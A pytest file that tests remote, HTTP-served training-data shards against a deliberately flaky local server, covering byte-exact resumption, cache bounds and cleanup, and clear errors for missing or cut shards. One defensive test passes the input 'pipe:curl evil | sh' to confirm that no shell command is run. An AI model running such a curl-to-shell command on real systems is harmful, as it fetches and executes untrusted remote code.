"""Remote shards give the same batches as local ones, over connections that break, without fetching a byte twice."""

import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest
import torch

from dcgan_dist.data.shards.manifest import load_manifest
from dcgan_dist.errors import InputError
from dcgan_dist.storage import chunk_cache, filesystems
from dcgan_dist.storage.read_ahead import RemoteFolder
from dcgan_dist.storage.scratch import caches_in_use
from tests.helpers.shards import first_batches, write_shards


class FlakyServer:
    """Serves a folder with ranges; breaks off after `break_after` bytes of a response, `breaks` times."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.breaks, self.break_after, self.status = folder, 0, 1 << 30, 200
        self.sent: list[tuple[str, int, int]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_HEAD(self) -> None:
                self.answer(body=False)

            def do_GET(self) -> None:
                self.answer(body=True)

            def answer(self, body: bool) -> None:
                path = outer.folder / self.path.lstrip("/")
                if outer.status != 200 or not path.is_file():
                    self.send_error(outer.status if outer.status != 200 else 404)
                    return
                data = path.read_bytes()
                first, last = 0, len(data) - 1
                if match := re.fullmatch(r"bytes=(\d+)-(\d+)", self.headers.get("Range", "")):
                    first, last = int(match[1]), min(int(match[2]), len(data) - 1)
                if first >= len(data):
                    self.send_error(416)
                    return
                self.send_response(206 if match else 200)
                self.send_header("Content-Length", str(last + 1 - first))
                self.end_headers()
                if body:
                    body_bytes = data[first : last + 1]
                    if outer.breaks and len(body_bytes) > outer.break_after:
                        outer.breaks -= 1
                        body_bytes = body_bytes[: outer.break_after]
                    outer.sent.append((path.name, first, first + len(body_bytes)))
                    self.wfile.write(body_bytes)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[FlakyServer]:
    (tmp_path / "served").mkdir()
    flaky = FlakyServer(tmp_path / "served")
    yield flaky
    flaky.server.shutdown()
    flaky.server.server_close()


@pytest.fixture(autouse=True)
def _short_pauses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filesystems, "FIRST_PAUSE_SECONDS", 0.001)


@pytest.mark.parametrize("layout", ["samples", "blocks"])
@pytest.mark.parametrize("loader_workers", [0, 1])
def test_shards_behind_http_give_the_local_batches(server: FlakyServer, layout, loader_workers: int) -> None:
    write_shards(server.folder, (9, 8), layout=layout)
    server.breaks, server.break_after = 5, 700

    over_http = first_batches(server.url, loader_workers=loader_workers)

    assert torch.equal(over_http, first_batches(str(server.folder)))


def test_a_broken_transfer_goes_on_at_the_byte(server: FlakyServer) -> None:
    content = np.random.default_rng(0).bytes(100_000)
    (server.folder / "a.tar").write_bytes(content)
    server.breaks, server.break_after = 4, 12_345
    folder = RemoteFolder(server.url)

    data = folder.read("a.tar", 0, len(content))
    folder.close()

    assert data == content
    assert [first for _, first, _ in server.sent] == [0, 12_345, 24_690, 37_035, 49_380]
    assert sum(end - first for _, first, end in server.sent) == len(content)


def test_what_had_to_leave_the_cache_is_fetched_ahead_again(
    server: FlakyServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 100)
    (server.folder / "a.tar").write_bytes(bytes(1000))
    folder = RemoteFolder(server.url, cache_bytes=300)

    ahead = []
    for _ in range(3):
        for chunk in range(10):
            folder.will_need("a.tar", 100 * chunk, 100)
            future = folder._under_way.get(("a.tar", chunk))
            ahead.append(future is not None and (future.result() or folder._cache.has("a.tar", chunk)))
            folder.read("a.tar", 100 * chunk, 100)
    folder.close()

    assert all(ahead)


def test_ranges_across_chunks_and_past_the_end_are_right(server: FlakyServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 100)
    content = np.random.default_rng(0).bytes(450)
    (server.folder / "a.tar").write_bytes(content)
    folder = RemoteFolder(server.url)

    for first, size in ((0, 450), (99, 2), (100, 100), (350, 100), (440, 50), (449, 1)):
        assert folder.read("a.tar", first, size) == content[first : first + size]

    assert len(server.sent) == 5  # each chunk once
    folder.close()


def test_the_cache_stays_within_its_bound_and_serves_again_without_the_network(
    server: FlakyServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 1000)
    (server.folder / "a.tar").write_bytes(bytes(10_000))
    folder = RemoteFolder(server.url, cache_folder=str(tmp_path / "cache"), cache_bytes=3500)

    for chunk in range(10):
        folder.read("a.tar", chunk * 1000, 1000)
    folder.close()

    assert sum(path.stat().st_size for path in (tmp_path / "cache").rglob("*.chunk")) == 3000
    fetched = len(server.sent)
    again = RemoteFolder(server.url, cache_folder=str(tmp_path / "cache"), cache_bytes=3500)
    again.read("a.tar", 9500, 500)
    again.close()
    assert len(server.sent) == fetched


def test_a_private_cache_goes_with_its_reader(server: FlakyServer) -> None:
    (server.folder / "a.tar").write_bytes(bytes(10))
    folder = RemoteFolder(server.url)
    folder.read("a.tar", 0, 10)
    cache = folder._private

    folder.close()

    assert cache is not None
    assert not Path(cache).exists()


def read_and_wait(url: str) -> subprocess.Popen[str]:
    """A process that has read a file and waits; it prints its cache."""
    code = (
        "import sys, time; from dcgan_dist.storage.read_ahead import RemoteFolder\n"
        f"folder = RemoteFolder({url!r}); folder.read('a.tar', 0, 10); print(folder._private, flush=True); sys.stdin.read()"
    )
    return subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def test_caches_go_with_their_processes_and_share_one_bound(
    server: FlakyServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 1000)
    (server.folder / "a.tar").write_bytes(bytes(10_000))
    with read_and_wait(server.url) as killed, read_and_wait(server.url) as ending:
        assert killed.stdout is not None
        assert ending.stdout is not None
        caches = [Path(process.stdout.readline().strip()) for process in (killed, ending) if process.stdout]
        assert all(list(cache.glob("*.chunk")) for cache in caches)
        with closing(RemoteFolder(server.url, cache_bytes=9000)) as folder:
            folder.read("a.tar", 0, 10_000)
            assert caches_in_use() >= 3
            assert len(list(Path(folder._private or "").glob("*.chunk"))) <= 3
        killed.kill()
        killed.wait()
        ending.communicate()

    assert not caches[1].exists(), "of a process that ended without closing"
    RemoteFolder(server.url).close()
    assert not caches[0].exists()


def test_storage_that_stays_away_is_an_error_and_not_a_hang(server: FlakyServer) -> None:
    write_shards(server.folder, (9,))
    server.status = 503
    folder = RemoteFolder(server.url, patience_minutes=0.01)

    with pytest.raises(InputError, match=r"could not be read for 0\.01 minutes.*503"):
        folder.size("manifest.json")

    folder.close()


def test_missing_and_cut_remote_shards_are_named(server: FlakyServer) -> None:
    with pytest.raises(InputError, match=r"manifest\.json cannot be read"):
        load_manifest(server.url)
    manifest = write_shards(server.folder, (9, 3))
    shard = server.folder / manifest.shards[1].name
    shard.write_bytes(shard.read_bytes()[:-1])
    with pytest.raises(InputError, match=r"t-train-000001\.tar has \d+ bytes"):
        load_manifest(server.url)
    shard.unlink()
    with pytest.raises(InputError, match=r"t-train-000001\.tar is missing"):
        load_manifest(f"{server.url}/manifest.json")


@pytest.mark.parametrize("address", ["pipe:curl evil | sh", "pipe:cat x.tar"])
def test_a_shell_command_is_never_run(address: str) -> None:
    with pytest.raises(InputError, match="would run a shell command"):
        load_manifest(address)


def test_unknown_protocols_are_refused_in_words() -> None:
    with pytest.raises(InputError, match=r"unknown protocol.*s3://"):
        load_manifest("ftp2://host/shards")
